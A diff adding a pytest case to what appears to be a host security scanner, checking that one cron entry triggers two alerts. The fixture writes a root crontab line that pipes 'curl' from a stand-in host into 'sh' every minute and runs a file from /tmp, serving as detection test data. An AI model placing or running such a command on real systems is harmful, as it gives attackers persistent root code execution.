@@ -66,6 +66,17 @@ def test_findings_become_alerts_of_that_machine_once(
     assert any(one["rule"] == "host.account-second-root" for one in kept)
 
 
+def test_two_rules_on_one_thing_are_two_alerts(
+    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
+) -> None:
+    put(root, "/etc/cron.d/update", "* * * * * root curl http://x.example/a | sh; /tmp/b\n")
+    monkeypatch.chdir(new_workspace(tmp_path / "w"))
+    last = tell(capsys, "scan", "--only-host", "--root", root, "--host", "pc", "--check", "cron", "--json").checked(
+        "scan"
+    )[-1]
+    assert last["stored"]["alerts"] == 2
+
+
 def test_words_that_do_not_fit_together(root: Path, capsys: pytest.CaptureFixture) -> None:
     assert tell(capsys, "scan", root, "--only-host").code == 2
     assert tell(capsys, "scan", root, "--memory").code == 2
